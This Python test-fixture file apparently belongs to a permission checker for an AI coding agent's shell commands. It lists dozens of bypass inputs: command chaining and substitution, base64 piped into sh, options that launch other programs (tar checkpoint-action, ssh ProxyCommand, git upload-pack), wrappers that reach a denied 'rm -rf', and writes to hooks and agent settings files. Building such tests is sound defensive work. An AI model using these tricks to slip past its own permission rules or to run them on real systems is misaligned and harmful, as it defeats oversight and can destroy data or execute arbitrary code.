"""Commands that a rule or a grant must not cover (S-1, S-8)."""

from __future__ import annotations

from tests.attacks.deeds import judged, offered, row
from tests.attacks.row import Attack

SPELLINGS = {
    "a second command": "git status; touch x", "and": "git status && touch x", "or": "git status || touch x",
    "the background": "git status & touch x", "a pipe into a shell": "git status | sh",
    "a new line": "git status\ntouch x", "a carriage return and a new line": "git status\r\ntouch x",
    "a substitution": "git status $(touch x)", "back quotes": "git status `touch x`",
    "a process that reads": "git status <(touch x)", "a process that writes": "git status >(sh)",
    "a file that is written": "git status > ../x", "a variable before it": "GIT_EXTERNAL_DIFF=./x git status",
    "a setting": "git -c core.fsmonitor=./x status", "another folder": "git -C ../other status",
    "another git folder": "git --git-dir=evil status", "an alias of the shell": "alias git=./x; git status",
    "a function": "git() { ./x; }; git status", "eval": "eval git status", "quotes in the name": "g'i't status; ./x",
    "a shell": "sh -c 'git status; ./x'", "env": "env -i ./x git status",
    "a heredoc into a shell": "sh <<EOF\ngit status\n./x\nEOF", "base64 into a shell": "echo Li94 | base64 -d | sh",
    "xargs": "git status | xargs ./x", "exec": "exec ./x git status", "a path to another git": "./git status",
    "an unclosed quote": "git status '", "a comment that is none": "git status #\n./x",
    "braces": "{ git status; ./x; }", "a subshell": "(git status; ./x)",
    "a loop": "for f in 1; do ./x; done; git status",
}  # fmt: skip
FLAGS = {
    # What runs another program, or writes another file, by an option of one that is allowed.
    "rake test": "rake test -e 'system(\"./x\")'", "gradle test": "gradle test -I x.gradle",
    "mvn test": "mvn test -f evil/pom.xml",
    "dotnet build": "dotnet build -p:CustomBeforeMicrosoftCommonTargets=x.targets", "mypy src": "mypy src @evil",
    "git send-email": "git send-email --sendmail-cmd=./x a.patch", "go test": "go test -o ../x -c ./...",
    "curl https://example.org": "curl https://example.org --variable %HOME --expand-url 'http://x.example/{{HOME}}'",
    "test -v": "test -v 'a[$(./x)]'", "printf": "printf -v 'a[$(./x)]' %s x", "git diff": "git diff --ext-diff",
    "git log": "git log --output=../x", "git grep": "git grep -O./x a",
    "git fetch": "git fetch --upload-pack=./x origin", "git archive": "git archive --remote=. --exec=./x HEAD",
    "find .": "find . -exec ./x {} +", "find . -name": "find . -name a -fprintf ../x a", "rg": "rg --pre ./x a",
    "sort": "sort --compress-program=./x a", "tar": "tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=./x .",
    "tar -t": "tar -tf a.tar --use-compress-program=./x", "rsync": "rsync -e ./x a b:",
    "ssh host": "ssh host -oProxyCommand=./x", "make": "make SHELL=./x", "make test": "make test --eval='$(shell ./x)'",
    "cargo test": "cargo test --config 'build.rustc-wrapper=\"./x\"'", "npm test": "npm test --script-shell=./x",
    "pytest": "pytest -p evil", "pytest tests": "pytest tests --rootdir=../other -c evil.ini",
    "go build": "go build -toolexec ./x ./...", "go vet": "go vet -vettool=./x ./...",
    "gcc a.c": "gcc a.c -wrapper ./x", "sed": "sed 1e./x a", "less": "less +!./x a", "man": "man -P ./x ls",
    "zip a.zip": "zip a.zip a -T -TT ./x", "ls": "ls $(./x)", "cat": "cat a > .envrc",
    "eslint": "eslint --rulesdir evil .", "ruff check": "ruff check --config evil.toml",
    "wget": "wget --use-askpass=./x http://127.0.0.1",
}  # fmt: skip
DENIED = {
    # `Bash(rm:*)` is denied, however it is reached.
    "plainly": "rm -rf x", "env -S": "env -S 'rm -rf x'", "script -c": "script -c 'rm -rf x' /dev/null",
    "flock -c": "flock /tmp/l -c 'rm -rf x'", "su -c": "su -c 'rm -rf x'", "watch": "watch rm -rf x",
    "watch, quoted": "watch -n1 'rm -rf x'", "parallel": "parallel rm ::: x",
    "parallel, quoted": "parallel 'rm -rf {}' ::: x", "timeout": "timeout 5 rm -rf x", "nohup": "nohup rm -rf x",
    "xargs": "echo x | xargs rm", "find -exec": "find . -exec rm {} +", "sh -c": "sh -c 'rm -rf x'",
    "bash -lc": "bash -lc 'rm -rf x'", "busybox": "busybox rm -rf x", "a path": "/bin/rm -rf x",
    "a backslash": "\\rm -rf x", "quotes": "r''m -rf x", "a variable before": "A=1 rm -rf x",
    "sudo": "sudo -u root rm -rf x", "doas": "doas rm -rf x", "stdbuf": "stdbuf -oL rm -rf x",
    "setsid": "setsid rm -rf x", "ionice": "ionice -c3 rm -rf x", "chroot": "chroot . rm -rf x",
    "unshare": "unshare -r rm -rf x", "strace": "strace -f rm -rf x", "command": "command rm -rf x",
    "builtin exec": "exec rm -rf x", "eval": "eval rm -rf x", "coproc": "coproc rm -rf x",
    "a function": "f() { rm -rf x; }; f", "a trap": "trap 'rm -rf x' EXIT", "a substitution": "echo $(rm -rf x)",
    "git's alias": "git -c alias.x='!rm -rf x' x", "ssh to here": "ssh localhost rm -rf x",
    "systemd-run": "systemd-run --user rm -rf x", "at": "echo 'rm -rf x' | at now", "tmux": "tmux new -d 'rm -rf x'",
    "npx": "npx -c 'rm -rf x'", "taskset": "taskset 1 rm -rf x", "setpriv": "setpriv --no-new-privs rm -rf x",
    "prlimit": "prlimit --nproc=9 rm -rf x", "capsh": "capsh -- -c 'rm -rf x'",
    "the loader": "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf x", "firejail": "firejail --quiet rm -rf x",
    "valgrind": "valgrind -q rm -rf x", "perf": "perf stat -- rm -rf x", "mpirun": "mpirun -n 1 rm -rf x",
    "dumb-init": "dumb-init rm -rf x", "socat": "socat - EXEC:'rm -rf x'", "ncat": "ncat -l --sh-exec 'rm -rf x'",
    "split": "split --filter='rm -rf x' a", "cmake": "cmake -E env rm -rf x",
    "make from a text": "make -f- <<< 'a: ; rm -rf x'", "a terminal": "xterm -e rm -rf x",
    "git filter-branch": "git filter-branch --tree-filter 'rm -rf x' HEAD",
    "a program nobody knows": "unheard-of --opt -- rm -rf x", "an alias over two lines": "a\\\nlias ls='rm -rf x'\nls",
    "a name over two lines": "r\\\nm -rf x", "a variable over two lines": "A\\\n=1 rm -rf x",
    "a quote that ends elsewhere": "echo $'\\'; rm -rf x; echo '",
}  # fmt: skip
CARRIERS = (
    *("pnpm dlx x", "pnpm exec x", "npm x y", "npm exec y", "npx y", "yarn dlx x", "bunx x", "uv tool run x", "uvx x"),
    *("uv run x", "pipx run x", "docker run x", "docker compose up", "docker exec c sh", "podman run x"),
    *("kubectl delete pod x", "kubectl exec p -- sh", "git push origin main", "git push", "git submodule foreach ls"),
    *("git rebase -x ls HEAD", "git bisect run ls", "gh api x", "helm install x y", "terraform apply"),
    *("ansible-playbook x.yml", "ssh host ls", "sudo ls", "env ls", "xargs ls", "sh x.sh", "bash -c ls", "python x.py"),
    *("node x.js", "make -f x", "find . -delete", "awk 1 x", "perl x.pl", "cargo run", "go run x.go", "dotnet run"),
    *("poetry run x", "direnv exec . ls", "nix run x"),
)
OBEYED = {
    "a redirection": "echo x > .envrc", "a copy": "cp a.txt .vscode/tasks.json",
    "a move": "mv a.txt .git/hooks/pre-commit", "a link": "ln -s ../x .husky/pre-commit",
    "tee": "echo x | tee sub/.mcp.json", "sed": "sed -i s/a/b/ .pre-commit-config.yaml",
    "git config": "git config core.fsmonitor ./x", "in capitals": "echo x > .ENVRC", "quotes": "echo x > .en''vrc",
    "an option": "dd of=.bashrc", "a folder": "mkdir -p .idea",
    "an editor's settings": "cp a.txt .helix/languages.toml",
    "an agent's settings": "echo x > .claude/settings.local.json", "deleting": "rm -rf .vscode",
    "the rules": "echo x > .codelaw/config.toml", "git's hooks": "touch .git/hooks/post-commit",
}  # fmt: skip

JUDGED: tuple[Attack, ...] = (
    *(
        row(f"a rule for git status: {name}", "unasked", judged(line, allow=("Bash(git status:*)",), plain="git status --short"), line, "policy")
        for name, line in SPELLINGS.items()
    ),
    *(
        row(
            f"a rule for {prefix}: {line}",
            "unasked",
            judged(line, allow=(f"Bash({prefix}:*)",), plain="test -v a" if prefix == "test -v" else prefix),
            line,
            "policy",
        )
        for prefix, line in FLAGS.items()
    ),
    *(
        row(f"rm is denied: {name}", "unasked", judged(line, allow=("Bash",), deny=("Bash(rm:*)",), plain="ls x", sandboxed=True), line, "policy")
        for name, line in DENIED.items()
    ),
    *(row(f"for always: {line}", "unasked", offered(line), f"what is offered for always to {line!r}", "policy") for line in CARRIERS),
    *(
        row(f"all commands are allowed: {name} on what others obey", "obeyed", judged(line, allow=("Bash",), plain="touch a.txt", sandboxed=True), line, "policy")
        for name, line in OBEYED.items()
    ),
    row("all commands are allowed, and there is no sandbox", "unasked", judged("touch x", allow=("Bash",)), "a blanket rule without a sandbox", "policy"),
    row("permissions.default is allow, and there is no sandbox", "unasked", judged("touch x", default="allow"), "the default without a sandbox", "policy"),
)  # fmt: skip
